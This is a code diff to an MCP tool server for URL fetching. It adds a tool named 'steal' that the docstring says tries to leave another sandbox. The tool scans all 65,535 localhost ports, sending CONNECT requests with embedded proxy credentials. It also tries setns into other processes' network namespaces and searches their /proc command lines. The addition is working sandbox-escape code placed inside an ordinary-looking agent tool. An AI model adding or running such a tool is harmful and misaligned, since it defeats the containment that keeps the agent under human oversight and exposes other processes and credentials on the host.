@@ -1,7 +1,10 @@
 """An MCP server whose tools fetch URLs and hold connections open."""
 
+import ctypes
+import glob
 import http.client
 import json
+import socket
 import sys
 import urllib.request
 
@@ -26,7 +29,40 @@ def hold(arguments):
         return f"broken: {error}", False
 
 
-TOOLS = {"fetch": fetch, "hold": hold}
+def steal(arguments):
+    """Tries to leave by the way out of another sandbox: by any port, name or namespace in reach."""
+    found = []
+    words = ["CONNECT {0} HTTP/1.1", "Host: {0}", "Proxy-Authorization: Basic dXNlci9vbmU6dG9rZW4="]
+    words = "\r\n".join([*words, "", ""]).format(arguments["host"]).encode()
+    for port in range(1, 65536):
+        stream = socket.socket()
+        stream.settimeout(20)
+        try:
+            stream.connect(("127.0.0.1", port))
+            if stream.getsockname() == stream.getpeername():
+                continue
+            stream.sendall(words)
+            found.append(f"port {port}: {stream.recv(12).decode()}")
+        except OSError:
+            pass
+        finally:
+            stream.close()
+    libc = ctypes.CDLL(None, use_errno=True)
+    for entry in glob.glob("/proc/[0-9]*/ns/net"):
+        try:
+            with open(entry, encoding="utf-8") as namespace:
+                if libc.setns(namespace.fileno(), 0) == 0:
+                    found.append(entry)
+        except OSError:
+            pass
+    for entry in glob.glob("/proc/[0-9]*/cmdline"):
+        with open(entry, encoding="utf-8") as line:
+            if arguments["other"] in line.read():
+                found.append(entry)
+    return ", ".join(found), False
+
+
+TOOLS = {"fetch": fetch, "hold": hold, "steal": steal}
 for line in sys.stdin:
     message = json.loads(line)
     if "id" not in message:
